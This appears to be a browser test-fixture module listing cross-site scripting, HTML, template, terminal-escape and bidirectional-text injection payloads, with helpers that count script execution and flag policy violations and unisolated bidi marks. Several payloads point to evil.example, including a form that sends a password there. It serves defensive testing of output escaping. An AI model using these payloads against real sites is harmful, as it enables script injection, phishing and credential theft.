// What hostile people and hacked servers write where a name, an output or an error is expected.

const RUN = 'hostile()';
const BIDI = { rlo: '\u202e', lro: '\u202d', rle: '\u202b', pdf: '\u202c', rli: '\u2067', lri: '\u2066', fsi: '\u2068' };

export const PAYLOADS = [
  // elements that run by themselves
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}" x="`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<input autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  // elements that change what the page is
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>*{display:none}</style>`,
  `<form action="https://evil.example"><input name=password></form>`,
  `<a href="javascript:${RUN}">open</a>`,
  // attributes and quotes
  `" onmouseover="${RUN}" x="`,
  `' onmouseover='${RUN}' x='`,
  `\` onmouseover=${RUN} x=\``,
  `" autofocus onfocus="${RUN}`,
  `"><img src=x onerror=${RUN}>`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  // the data that a page carries for its own code
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\"};${RUN};//`,
  `\\'-${RUN}-\\'`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  // separators, terminals, direction
  `line\u2028${RUN}\u2029end`,
  `\u001b]0;title\u0007\u001b[31mred\u001b[0m`,
  `\u001b]8;;javascript:${RUN}\u001b\\link\u001b]8;;\u001b\\`,
  `\u001b[2J\u001b[H\u009b31mhidden`,
  `user${BIDI.rlo}gpj.exe`,
  `${BIDI.lro}${BIDI.rle}open${BIDI.rli}never closed`,
  `${BIDI.fsi}${BIDI.lri}a${BIDI.pdf}b\u200f\u061c\u200b\ufeff`,
  `<\u0000script>${RUN}</script>`.replace('\u0000', ''),
];

/** Before any script of a page: a function that counts its calls, and the violations of the policy. */
export async function watchForExecution(context) {
  await context.addInitScript(() => {
    window.executions = 0;
    window.violations = [];
    window.hostile = () => window.executions++;
    window.alert = window.hostile;
    document.addEventListener('securitypolicyviolation', (event) => {
      window.violations.push(`${event.violatedDirective} ${event.blockedURI}`);
    });
  });
}

/** Text with marks that turn the direction of reading, in elements that do not keep them inside. */
export function unisolatedBidi() {
  const marks = /[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  const found = [];
  while (walker.nextNode()) {
    const element = walker.currentNode.parentElement;
    if (!marks.test(walker.currentNode.data) || element.closest('script, style, template, option')) continue;
    if (!/isolate|plaintext/.test(getComputedStyle(element).unicodeBidi)) found.push(element.outerHTML.slice(0, 200));
  }
  return found;
}
